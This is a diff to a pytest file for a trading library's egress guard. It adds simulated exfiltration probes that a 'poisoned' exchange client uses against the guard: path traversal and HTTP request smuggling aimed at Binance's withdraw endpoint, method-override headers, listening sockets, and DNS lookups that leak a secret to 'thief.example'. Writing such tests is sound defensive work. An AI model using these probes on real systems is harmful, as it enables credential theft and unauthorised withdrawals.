@@ -6,6 +6,9 @@ The thief listens on this machine, so that code that gets out is caught at it: t
 from __future__ import annotations
 
 import asyncio
+import ctypes
+import json
+import pickle
 import socket
 import subprocess
 import sys
@@ -19,9 +22,11 @@ import ccxt.pro
 import pytest
 import requests
 from aiohttp import web
+from yarl import URL
 
 from tests.adapters.exchanges.wire_kit import BadWire, Desk, Fault, buy, desk
 from tradepool.adapters.exchanges.guard import OffTheList
+from tradepool.adapters.exchanges.vault import Credentials
 from tradepool.domain.errors import KeyRefused, TradepoolError
 from tradepool.runtime.egress import EgressRefused, sealed
 from tradepool.simexchange.tls import TlsFiles, make_tls_files
@@ -110,6 +115,24 @@ async def web_socket(client: Poisoned, place: str) -> object:
     return await client.session.ws_connect(place.replace("http:", "wss:"), headers={"x": client.loot})
 
 
+async def escaping(client: Poisoned, place: str) -> object:
+    address = "wss://ws-api.binance.com:443/ws-api/v3/../../sapi/v1/capital/withdraw/apply?signature=0"
+    return await client.session.request("POST", URL(address, encoded=True), headers={"X-MBX-APIKEY": client.apiKey})
+
+
+async def smuggled(client: Poisoned, place: str) -> object:
+    body = b"POST /sapi/v1/capital/withdraw/apply HTTP/1.1\r\nHost: api.binance.com\r\n\r\n"
+    return await client.session.post(f"{API}/api/v3/order", data=body, headers={"Content-Length": "0"})
+
+
+async def chunked(client: Poisoned, place: str) -> object:
+    return await client.session.post(f"{API}/api/v3/order", data=b"0", headers={"Transfer-Encoding": "chunked"})
+
+
+async def overridden(client: Poisoned, place: str) -> object:
+    return await client.session.get(f"{API}/api/v3/account", headers={"X-HTTP-Method-Override": "POST"})
+
+
 async def look_up(client: Poisoned, place: str) -> object:
     return await client.session.get(f"https://{client.secret}.thief.example/")
 
@@ -141,6 +164,22 @@ async def with_a_name(client: Poisoned, place: str) -> object:
     return socket.getaddrinfo(f"{client.secret}.thief.example", 80)
 
 
+async def listening(client: Poisoned, place: str) -> object:
+    with socket.socket() as line:
+        line.listen()
+        return line.accept()
+
+
+async def bound(client: Poisoned, place: str) -> object:
+    with socket.socket(socket.AF_UNIX) as line:
+        line.bind("\0thief")
+    return None
+
+
+async def with_libc(client: Poisoned, place: str) -> object:
+    return ctypes.pythonapi.getppid()
+
+
 async def with_a_child(client: Poisoned, place: str) -> object:
     code = f"import urllib.request; urllib.request.urlopen({place!r}, {client.loot.encode()!r})"
     return await asyncio.to_thread(subprocess.run, [sys.executable, "-c", code], check=True)
@@ -148,15 +187,17 @@ async def with_a_child(client: Poisoned, place: str) -> object:
 
 async def in_an_allowed_request(client: Poisoned, place: str) -> object:
     return await BINANCE.fetch(
-        client, f"{API}/api/v3/order?note={client.loot}", "POST", {"x": client.loot}, client.loot
+        client, f"{API}/api/v3/order?note={client.loot}", "POST", {"User-Agent": client.loot}, client.loot
     )
 
 
 THROUGH_OUR_SESSION = [
     other_host, withdraw, transfer, spelled, proxy, fronted, unchecked, plain, web_socket, look_up,
+    escaping, smuggled, chunked, overridden,
 ]  # fmt: skip
 AROUND_IT = [
     own_session, with_urllib, with_requests, with_a_socket, with_a_datagram, with_a_name, with_a_child,
+    listening, bound, with_libc,
 ]  # fmt: skip
 
 
@@ -221,6 +262,30 @@ def test_a_secret_is_not_even_in_what_may_be_sent(files: TlsFiles, monkeypatch: 
         assert at.gateway._client.loot.encode() in Listening.heard
 
     play(files, monkeypatch, in_an_allowed_request, [], story)
+
+
+def test_what_comes_back_shows_an_alias(files: TlsFiles) -> None:
+    """Neither an answer nor a request off the list carries the true key; a pickle carries nothing."""
+
+    async def story() -> None:
+        async with desk(files, Fault("NONE"), secret=SECRET) as at:
+            client = at.gateway._client
+            signed = client.sign("account", ["private"], "GET", {})
+            async with client.session.get(URL(signed["url"], encoded=True), headers=signed["headers"]) as answer:
+                assert answer.status == 200
+                assert answer.request_info.headers["X-MBX-APIKEY"] == client.apiKey != "key"
+            query = "coin=BTC&address=thief&signature=00"
+            url = URL(f"{API}/api/v3/ping?{query}", encoded=True)
+            async with client.session.get(url, headers={"X-MBX-APIKEY": client.apiKey}) as answer:
+                assert answer.url.raw_query_string == query, "what is public is not signed"
+            params = {"apiKey": client.apiKey, "timestamp": 1, "signature": ""}
+            for method, alias in (("order.place", True), ("userDataStream.subscribe.signature", False)):
+                sent = json.loads(at.session.vault.sign_message(json.dumps({"method": method, "params": params})))
+                assert (sent["params"]["apiKey"] == client.apiKey) is alias
+
+    asyncio.run(story())
+    with pytest.raises(TypeError, match="not pickled"):
+        pickle.dumps(Credentials("key", SECRET))
 
 
 def test_a_redirect_leads_nowhere_else(files: TlsFiles, monkeypatch: pytest.MonkeyPatch) -> None:
